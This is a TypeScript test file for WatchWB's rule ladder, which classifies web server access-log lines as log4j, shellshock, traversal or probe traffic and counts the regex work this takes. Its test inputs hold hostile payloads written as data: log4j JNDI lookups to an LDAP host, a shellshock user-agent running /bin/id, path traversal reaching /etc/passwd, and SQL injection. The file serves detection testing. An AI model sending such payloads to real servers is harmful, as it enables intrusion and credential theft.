// The work WatchWB's ladder does on an access line, counted in the patterns it runs (a timing
// would not be deterministic). Before: every line that the traffic rule did not take ran
// log4j's and shellshock's `.*` patterns to its end, whether or not it held `${`, `%7B` or
// `"()`, and each of the ~15 payload and probe rules read the request again from the start
// (`[^[ ][^ ]* [^ ]+ [^"]*"[A-Z]+ [^ "]*`). Now a `.*` pattern runs only on a line that holds a
// text every match of it contains, and neighbouring rules read their shared beginning once;
// the decisions stay those of trying every rule in order (test/master/lib/rules/ladder.test.ts).
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO } from '../helpers/install.js';
import { readRuleSet } from '../../master/lib/rules/ruleset.js';
import { parseHeader } from '../../master/lib/rules/header.js';

const RULES = join(REPO, 'modules/WatchWB/rules');
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const line = (req: string, status: number, ua = FIREFOX): string =>
  `Dec  2 20:00:00 web httpd: 203.0.113.9 - - "${req}" ${status} 196 "-" "${ua}" "-" [Instance: www.example.org:80]@generic`;

// The sources of the patterns the ladder runs to decide a line, and its decision.
function run(raw: string): { sources: string[]; rule: string } {
  const { set } = readRuleSet(RULES, 'normal');
  const { line: l, at } = parseHeader(raw);
  const sources: string[] = [];
  const exec = RegExp.prototype.exec;
  const test = RegExp.prototype.test;
  RegExp.prototype.exec = function (this: RegExp, s: string) { sources.push(this.source); return exec.call(this, s); };
  RegExp.prototype.test = function (this: RegExp, s: string) { sources.push(this.source); return test.call(this, s); };
  let d;
  try { d = set!.ladder.decide(l, at); } finally { RegExp.prototype.exec = exec; RegExp.prototype.test = test; }
  return { sources, rule: d === undefined ? 'untreated' : d === 'skip' ? 'skip' : d.name };
}

const count = (texts: string[], part: string): number => texts.reduce((n, t) => n + t.split(part).length - 1, 0);
const LOG4J = '.*(?:\\$\\{|%7[Bb])';
const SHELLSHOCK = '.*"\\(\\) ?\\{';
const REQUEST = '[^"]*"[A-Z]+ [^ "]*';

describe('the work of WatchWB\'s rules on an access line', () => {
  it('runs no `.*` payload pattern on a line without its text, and reads the request once for all payload rules', () => {
    for (const raw of [line('GET /wp-login.php HTTP/1.1', 404), line('GET /search?q=shoes+size+44 HTTP/1.1', 200), line('POST /contact HTTP/1.1', 302, 'curl/8.5.0')]) {
      const { sources, rule } = run(raw);
      expect(rule, raw).toMatch(/^(normal|admin-probe|cms-probe|script-404|traffic)$/);
      expect(count(sources, LOG4J), raw).toBe(0);
      expect(count(sources, SHELLSHOCK), raw).toBe(0);
      expect(count(sources, REQUEST), raw).toBeLessThanOrEqual(2);
    }
  });

  it('still runs them where the text stands, in any field, and the first rule in order wins', () => {
    const log4j = run(line('GET / HTTP/1.1', 200, '${jndi:ldap://198.51.100.9/a}'));
    expect(log4j.rule).toBe('log4j');
    expect(count(log4j.sources, LOG4J)).toBeGreaterThan(0);
    expect(run(line('GET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1', 404)).rule).toBe('log4j');
    expect(run(line('GET /cgi-bin/x HTTP/1.1', 404, '() { :; }; /bin/id')).rule).toBe('shellshock');
    // Traversal and SQL injection (005-payloads, in that order) in one request: traversal, the earlier rule.
    expect(run(line('GET /?f=../../etc/passwd&id=1+UNION+SELECT+1,2 HTTP/1.1', 200)).rule).toBe('traversal');
    expect(run(line('GET /?id=1+UNION+SELECT+1,2&f=../../etc/passwd HTTP/1.1', 200)).rule).toBe('traversal');
  });
});
